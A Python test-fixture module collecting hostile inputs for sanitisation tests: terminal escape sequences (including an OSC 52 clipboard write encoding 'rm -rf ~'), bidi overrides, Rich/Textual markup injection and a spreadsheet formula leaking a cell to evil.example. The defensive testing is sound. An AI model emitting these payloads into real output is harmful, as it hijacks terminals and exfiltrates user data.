"""Hostile text, in one place, for every surface's tests (store, CLI formats, dashboard, ingest).

Each payload is something that, printed raw, would act on the analyst's
terminal or be read as Rich/Textual markup. Stored, it must come back
sanitised; shown, it must appear as literal text.
"""

from __future__ import annotations

ESC = "\x1b"

ESCAPES = {
    "clear_screen": f"before{ESC}[2J{ESC}[Hafter",
    "colour": f"{ESC}[31mred{ESC}[0m text",
    "osc8_link": f"{ESC}]8;;https://evil.example/{ESC}\\click me{ESC}]8;;{ESC}\\",
    "osc52_clipboard": f"copy{ESC}]52;c;cm0gLXJmIH4=\x07 this",
    "window_title": f"{ESC}]0;pwned\x07title",
    "c1_csi": "c1\x9b2Jcsi",
    "c1_controls": "nul\x00bel\x07bs\x08del\x7fc1\x85end",
    "bidi_override": "abc\u202edcba\u202c and \u2066isolate\u2069",
}
"""Control sequences: after sanitising, none of ESC, C0/C1 controls or bidi overrides remain."""

MARKUP = {
    "bold": "[bold]not bold[/bold]",
    "link": "[link=https://evil.example]click[/link]",
    "click": "[@click=app.quit]quit[/]",
    "textual_var": "$accent [b]x[/b] [red on blue]y[/]",
    "bracketed_quote": "surrender, [we] will guarantee",
}
"""Markup: kept as written, and shown literally everywhere."""

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
"""Text a spreadsheet would run as a formula: kept as written in the store, neutralised in CSV output."""

FORBIDDEN = [ESC, "\x9b", "\x9d", "\x00", "\x07", "\x08", "\x7f", "\x85", "\u202e", "\u2066"]
"""Characters that must never reach the store or the screen."""


def assert_clean(text: str) -> None:
    """Fail if any forbidden character survived."""
    leaked = [repr(c) for c in FORBIDDEN if c in text]
    assert not leaked, f"control characters leaked: {', '.join(leaked)}"
